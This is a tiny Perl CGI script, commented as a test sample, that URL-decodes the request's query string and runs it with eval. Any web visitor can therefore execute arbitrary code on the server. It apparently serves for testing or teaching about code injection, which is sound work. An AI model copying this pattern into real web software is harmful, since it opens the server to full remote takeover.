#!/usr/bin/perl
# test sample: the query string evaluated as Perl, wrapped in quotes
print "Content-type: text/plain\n\n";
my $code = $ENV{'QUERY_STRING'};
$code =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/eg;
eval "$code";
